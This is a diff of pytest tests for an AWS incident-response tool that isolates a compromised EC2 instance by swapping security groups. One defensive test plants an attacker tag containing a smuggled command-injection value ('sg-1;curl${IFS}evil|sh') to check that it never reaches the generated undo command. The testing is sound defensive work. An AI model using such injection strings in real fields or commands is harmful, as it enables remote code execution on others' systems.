@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 from collections.abc import Iterator
 from contextlib import ExitStack
 from dataclasses import dataclass
@@ -19,6 +20,7 @@ from isolate_instance import handler
 from isolate_instance.actions import (
     ISOLATION_GROUP,
     ORIGINAL_TAG,
+    PURPOSE_TAG,
     TAG_VALUE_LIMIT,
     UNTRACK_GROUP,
     isolate_instance,
@@ -32,6 +34,7 @@ ACCOUNT = "123456789012"
 
 
 make_incident = exfiltration_incident
+INCIDENT = make_incident()["incident_id"]
 
 
 def mocked(monkeypatch: pytest.MonkeyPatch, *, quirks: bool) -> ExitStack:
@@ -117,7 +120,7 @@ def instance_tags(ec2: Any, instance_id: str) -> dict[str, str]:
 def test_every_interface_in_two_vpcs_gets_only_a_ruleless_isolation_group(ec2: Any) -> None:
     host = two_vpc_host(ec2)
 
-    result = isolate_instance(ec2, host.instance_id, REGION)
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
 
     [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
     [isolation_db] = groups_named(ec2, host.vpc_db, ISOLATION_GROUP)
@@ -125,10 +128,11 @@ def test_every_interface_in_two_vpcs_gets_only_a_ruleless_isolation_group(ec2: A
     assert eni_groups(ec2, host.eni_db) == [isolation_db]
     assert rules(ec2, isolation_web) == [] and rules(ec2, isolation_db) == []
     originals = {host.eni_web: host.web_groups, host.eni_db: host.db_groups}
-    assert json.loads(instance_tags(ec2, host.instance_id)[ORIGINAL_TAG]) == originals
+    assert json.loads(instance_tags(ec2, host.instance_id)[ORIGINAL_TAG]) == {"incident": INCIDENT, "groups": originals}
     assert result["status"] == "done"
     assert result["containment"] is False
     assert result["data"] == {
+        "incident_id": INCIDENT,
         "original_groups": originals,
         "isolation_groups": {host.vpc_web: isolation_web, host.vpc_db: isolation_db},
     }
@@ -139,24 +143,21 @@ def test_interfaces_pass_through_an_all_open_group_first(ec2: Any) -> None:
     calls: list[tuple[str, list[str]]] = []
     recording = RecordingModify(ec2, calls)
 
-    isolate_instance(recording, host.instance_id, REGION)
+    isolate_instance(recording, host.instance_id, REGION, incident_id=INCIDENT)
 
     [untrack_web] = groups_named(ec2, host.vpc_web, UNTRACK_GROUP)
     [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
     assert [groups for eni, groups in calls if eni == host.eni_web] == [[untrack_web], [isolation_web]]
-    open_rules = {
-        (rule["IsEgress"], rule["IpProtocol"], rule.get("CidrIpv4") or rule.get("CidrIpv6"))
-        for rule in rules(ec2, untrack_web)
-    }
-    assert open_rules == {(egress, "-1", cidr) for egress in (True, False) for cidr in ("0.0.0.0/0", "::/0")}
+    # Open for the swaps only: at rest the all-open group carries no rules.
+    assert rules(ec2, untrack_web) == []
 
 
 def test_rerun_is_already_done_creates_no_second_group_and_keeps_the_originals(ec2: Any) -> None:
     host = two_vpc_host(ec2)
-    first = isolate_instance(ec2, host.instance_id, REGION)
+    first = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
     tags_after_first = instance_tags(ec2, host.instance_id)
 
-    again = isolate_instance(ec2, host.instance_id, REGION)
+    again = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
 
     assert again["status"] == "already-done"
     assert len(groups_named(ec2, host.vpc_web, ISOLATION_GROUP)) == 1
@@ -168,14 +169,14 @@ def test_rerun_is_already_done_creates_no_second_group_and_keeps_the_originals(e
 
 def test_rule_added_to_the_isolation_group_is_removed_on_rerun(ec2: Any) -> None:
     host = two_vpc_host(ec2)
-    isolate_instance(ec2, host.instance_id, REGION)
+    isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
     [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
     ec2.authorize_security_group_ingress(
         GroupId=isolation_web,
         IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
     )
 
-    result = isolate_instance(ec2, host.instance_id, REGION)
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
 
     assert result["status"] == "done"
     assert rules(ec2, isolation_web) == []
@@ -184,7 +185,7 @@ def test_rule_added_to_the_isolation_group_is_removed_on_rerun(ec2: Any) -> None
 def test_undo_restores_the_original_groups(ec2: Any) -> None:
     host = two_vpc_host(ec2)
 
-    result = isolate_instance(ec2, host.instance_id, REGION)
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
 
     assert result["undo"] == " && ".join(
         f"aws ec2 modify-network-interface-attribute --region {REGION} --network-interface-id {eni} --groups "
@@ -195,26 +196,33 @@ def test_undo_restores_the_original_groups(ec2: Any) -> None:
 
 def test_a_failed_final_swap_never_leaves_the_all_open_group(ec2: Any) -> None:
     host = two_vpc_host(ec2)
-    isolation = ec2.create_security_group(GroupName=ISOLATION_GROUP, Description="x", VpcId=host.vpc_web)["GroupId"]
+    isolation = ec2.create_security_group(
+        GroupName=ISOLATION_GROUP,
+        Description="x",
+        VpcId=host.vpc_web,
+        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": "isolation"}]}],
+    )["GroupId"]
 
-    result = isolate_instance(FailingSwapTo(ec2, isolation), host.instance_id, REGION)
+    result = isolate_instance(FailingSwapTo(ec2, isolation), host.instance_id, REGION, incident_id=INCIDENT)
 
     assert result["status"] == "failed"
     assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)
+    [untrack_web] = groups_named(ec2, host.vpc_web, UNTRACK_GROUP)
+    assert rules(ec2, untrack_web) == []
 
 
 def test_terminated_instance_is_skipped(ec2: Any) -> None:
     host = two_vpc_host(ec2)
     ec2.terminate_instances(InstanceIds=[host.instance_id])
 
-    result = isolate_instance(ec2, host.instance_id, REGION)
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
 
     assert (result["status"], result["detail"]) == ("skipped", "instance is gone (terminated)")
     assert groups_named(ec2, host.vpc_web, ISOLATION_GROUP) == []
 
 
 def test_unknown_instance_is_skipped(ec2: Any) -> None:
-    result = isolate_instance(ec2, "i-0123456789abcdef0", REGION)
+    result = isolate_instance(ec2, "i-0123456789abcdef0", REGION, incident_id=INCIDENT)
 
     assert (result["status"], result["detail"]) == ("skipped", "instance is gone (terminated)")
 
@@ -254,11 +262,14 @@ def test_handler_skips_an_incident_without_instance(ec2: Any, lambda_context: An
 def test_original_groups_longer_than_one_tag_round_trip() -> None:
     originals = {f"eni-{n:017x}": [f"sg-{n:04x}{m:013x}" for m in range(5)] for n in range(4)}
 
-    tags = original_groups_tags(originals)
+    tags = original_groups_tags(originals, INCIDENT)
 
     assert len(tags) > 1
     assert all(len(tag["Value"]) <= TAG_VALUE_LIMIT for tag in tags)
-    assert read_original_groups(list(reversed(tags))) == originals
+    assert read_original_groups(list(reversed(tags)), INCIDENT) == (originals, None)
+    # Another incident's copy (or one the attacker wrote) is not trusted.
+    copy, why = read_original_groups(tags, "123456789012:guardduty:other")
+    assert copy == {} and "does not carry this incident's id" in why
 
 
 def test_without_the_moto_patch_the_read_back_catches_motos_group_union(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -270,7 +281,7 @@ def test_without_the_moto_patch_the_read_back_catches_motos_group_union(monkeypa
         ec2 = boto3.client("ec2", region_name=REGION)
         host = two_vpc_host(ec2)
 
-        result = isolate_instance(ec2, host.instance_id, REGION)
+        result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
 
     assert result["status"] == "failed"
     assert result["detail"].startswith("read back:")
@@ -303,3 +314,94 @@ class FailingSwapTo:
                 {"Error": {"Code": "RequestLimitExceeded", "Message": "slow down"}}, "ModifyNetworkInterfaceAttribute"
             )
         return self._inner.modify_network_interface_attribute(**kwargs)
+
+
+class TimesOutOnSwapTo(FailingSwapTo):
+    """The call to the isolation group dies without an AWS answer (a read timeout, the function's end)."""
+
+    def modify_network_interface_attribute(self, **kwargs: Any) -> Any:
+        if kwargs["Groups"] == [self._group]:
+            raise RuntimeError("the function stopped here")
+        return self._inner.modify_network_interface_attribute(**kwargs)
+
+
+def tagged_group(ec2: Any, vpc: str, name: str, purpose: str) -> str:
+    return ec2.create_security_group(
+        GroupName=name,
+        Description=name,
+        VpcId=vpc,
+        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": purpose}]}],
+    )["GroupId"]
+
+
+def test_any_exception_between_the_swaps_restores_and_closes_the_all_open_group(ec2: Any) -> None:
+    host = two_vpc_host(ec2)
+    isolation = tagged_group(ec2, host.vpc_web, ISOLATION_GROUP, "isolation")
+
+    with pytest.raises(RuntimeError):
+        isolate_instance(TimesOutOnSwapTo(ec2, isolation), host.instance_id, REGION, incident_id=INCIDENT)
+
+    [untrack_web] = groups_named(ec2, host.vpc_web, UNTRACK_GROUP)
+    assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)
+    assert rules(ec2, untrack_web) == []
+    # The retry finishes the job from the copy of this incident.
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
+    assert result["status"] == "done"
+    assert result["data"]["original_groups"][host.eni_web] == host.web_groups
+
+
+def test_an_interface_left_on_the_all_open_group_is_fixed_first(ec2: Any) -> None:
+    """What a Lambda timeout between the swaps leaves behind: no `finally` ran."""
+    host = two_vpc_host(ec2)
+    untrack = tagged_group(ec2, host.vpc_web, UNTRACK_GROUP, "untrack")
+    ec2.authorize_security_group_ingress(
+        GroupId=untrack, IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
+    )
+    ec2.create_tags(Resources=[host.instance_id], Tags=original_groups_tags({host.eni_web: host.web_groups}, INCIDENT))
+    ec2.modify_network_interface_attribute(NetworkInterfaceId=host.eni_web, Groups=[untrack])
+    calls: list[tuple[str, list[str]]] = []
+
+    result = isolate_instance(RecordingModify(ec2, calls), host.instance_id, REGION, incident_id=INCIDENT)
+
+    [isolation_web] = groups_named(ec2, host.vpc_web, ISOLATION_GROUP)
+    assert calls[0] == (host.eni_web, [isolation_web])  # straight to isolation, before anything else
+    assert eni_groups(ec2, host.eni_web) == [isolation_web]
+    assert rules(ec2, untrack) == []
+    assert result["status"] == "done" and "earlier attempt" in result["detail"]
+    assert result["data"]["original_groups"][host.eni_web] == host.web_groups
+
+
+def test_a_tag_the_attacker_wrote_is_never_trusted(ec2: Any) -> None:
+    host = two_vpc_host(ec2)
+    planted = json.dumps({host.eni_web: ["sg-1;curl${IFS}evil|sh"], "eni-0123456789abcdef0": host.db_groups})
+    ec2.create_tags(Resources=[host.instance_id], Tags=[{"Key": ORIGINAL_TAG, "Value": planted}])
+
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
+
+    assert result["status"] == "done"
+    assert result["data"]["original_groups"] == {host.eni_web: host.web_groups, host.eni_db: host.db_groups}
+    assert (
+        "curl" not in result["undo"] and "original-sgs does not carry this incident's id: ignored" in result["detail"]
+    )
+    # The responder's own copy replaced the planted one.
+    copy = json.loads(instance_tags(ec2, host.instance_id)[ORIGINAL_TAG])
+    assert copy["incident"] == INCIDENT
+
+
+def test_a_group_with_the_responders_name_but_not_its_tag_is_never_used(ec2: Any) -> None:
+    host = two_vpc_host(ec2)
+    ec2.create_security_group(GroupName=UNTRACK_GROUP, Description="planted", VpcId=host.vpc_web)
+
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
+
+    assert result["status"] == "failed" and "lacks the tag" in result["detail"]
+    assert eni_groups(ec2, host.eni_web) == sorted(host.web_groups)
+
+
+def test_the_undo_command_quotes_every_value(ec2: Any) -> None:
+    host = two_vpc_host(ec2)
+    result = isolate_instance(ec2, host.instance_id, REGION, incident_id=INCIDENT)
+    for command in result["undo"].split(" && "):
+        words = shlex.split(command)
+        assert words[:3] == ["aws", "ec2", "modify-network-interface-attribute"]
+        assert all(word.startswith(("sg-", "eni-", "--", "aws", "ec2", "modify", REGION)) for word in words)
